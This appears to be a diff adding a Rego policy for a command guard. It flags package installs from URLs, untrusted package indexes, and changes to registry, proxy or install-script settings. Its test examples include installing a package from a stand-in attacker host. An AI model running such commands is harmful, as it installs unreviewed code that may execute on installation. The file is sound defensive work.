@@ -1,0 +1,128 @@
+# METADATA
+# title: Where packages come from
+# description: |
+#   Addresses, registries and settings that decide whose code is installed.
+package guard.rules.packagesource
+
+import data.guard.stage
+
+# METADATA
+# title: Installs from an address
+# description: A package from an address is reviewed and recorded by nobody, and may run scripts on installation.
+# custom:
+#   id: package.foreign
+#   remedy: install it by name and version from the registry
+#   fires: 'npm install https://evil.example/pkg.tgz'
+#   quiet: npm install left-pad
+hit contains {"id": "package.foreign", "tier": 2, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	s.name in {"npm", "pnpm", "yarn", "bun", "pip", "pip3", "uv", "gem", "cargo", "poetry", "pipx", "python", "python3"}
+	some word in array.concat(s.operands, _requirements(s))
+	_address(s, word)
+	_installs(s)
+	not stage.help(s)
+	msg := sprintf("installs code from an address: %s", [stage.cut(word)])
+}
+
+# METADATA
+# title: Takes packages from another place
+# description: Whoever runs that server decides what is installed; a name that is also public may come from there.
+# custom:
+#   id: package.source
+#   remedy: leave the option out, or set the index in the project's configuration and let a person review it
+#   fires: pip install --extra-index-url https://packages.example/simple lib
+#   quiet: pip install torch --index-url https://download.pytorch.org/whl/cpu
+hit contains {"id": "package.source", "tier": 2, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	data.guard.rules.packagesource.managers[s.name]
+	some o in s.options
+	o.name in {
+		"registry", "index-url", "extra-index-url", "default-index", "index", "i", "find-links", "f", "source", "s",
+		"clear-sources", "trusted-host", "c", "channel",
+	}
+	regex.match(`^(https?|ftp)://`, o.value)
+	not _known_source(o.value)
+	not stage.help(s)
+	msg := sprintf("takes packages from %s", [stage.cut(o.value)])
+}
+
+# METADATA
+# title: Changes where packages come from
+# description: A registry, proxy or script setting decides what every later installation runs.
+# custom:
+#   id: package.config
+#   remedy: keep it in the project's own configuration and let a person review it
+#   fires: npm config set ignore-scripts false
+#   quiet: npm config get registry
+hit contains {"id": "package.config", "tier": 3, "stage": s.id, "msg": msg} if {
+	some s in input.cmd.stages
+	s.name in {"npm", "pnpm", "yarn", "pip", "pip3", "gem", "bundle", "cargo", "poetry", "go", "composer", "add-apt-repository", "apt-add-repository", "apt-key"}
+	_sets_source(s)
+	not stage.help(s)
+	msg := sprintf("changes where packages come from: %s", [stage.line(s)])
+}
+
+_installs(s) if {
+	some word in array.concat([s.sub], s.args)
+	word in {"install", "i", "add", "update", "upgrade", "uninstall", "remove", "rm", "ci", "link", "un"}
+}
+
+_known_source(url) if {
+	parts := regex.find_all_string_submatch_n(`^https://([^/:@]+)(/|$)`, url, 1)
+	data.guard.rules.packagesource.sources[parts[0][1]]
+}
+
+_known_source(url) if regex.match(`^https?://(localhost|127\.[0-9.]+|\[::1\])(:[0-9]+)?(/|$)`, url)
+
+_address(_, word) if {
+	regex.match(`^(git\+|https?:|git:|ssh:|[a-z]+\+https?:|github:|gitlab:|bitbucket:|gist:|git@)`, word)
+	not _known_source(word)
+}
+
+# npm's short form for a repository of GitHub
+_address(s, word) if {
+	s.name in {"npm", "pnpm", "yarn", "bun"}
+	regex.match(`^[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+(#.*)?$`, word)
+}
+
+_address(s, word) if {
+	s.name in {"pip", "pip3", "uv", "pipx", "python", "python3"}
+	regex.match(`^[A-Za-z0-9._\[\],-]+ *@ *(git\+|https?:)`, word)
+}
+
+_requirements(s) := [o.value | some o in s.options; o.name in {"r", "requirement", "e", "editable", "git"}]
+
+_sets_source(s) if {
+	words := [word | some word in array.concat(split(s.sub, " "), s.operands); word != ""]
+	words[0] in {"config", "set"}
+	some verb in words
+	verb in {"set", "delete", "edit"}
+	some key in words
+	regex.match(`(?i)(registry|^repositories|^repo|index-url|extra-index|ignore-scripts|script-shell|proxy|cafile|strict-ssl|trusted-host|node-options|prefix|source|mirror)`, key)
+}
+
+_sets_source(s) if {
+	s.name == "composer"
+	stage.verb(s) == "config"
+	some key in s.operands
+	regex.match(`^(repositories|repo)\.`, key)
+}
+
+_sets_source(s) if {
+	s.name in {"add-apt-repository", "apt-add-repository", "apt-key"}
+	count(s.args) > 0
+	not s.args[0] in {"list", "--list", "-L", "finger", "export"}
+}
+
+_sets_source(s) if {
+	s.name == "go"
+	s.sub == "env"
+	"w" in s.flags
+}
+
+_sets_source(s) if {
+	s.name == "gem"
+	stage.verb(s) == "sources"
+	some flag in ["a", "add", "r", "remove"]
+	flag in s.flags
+}
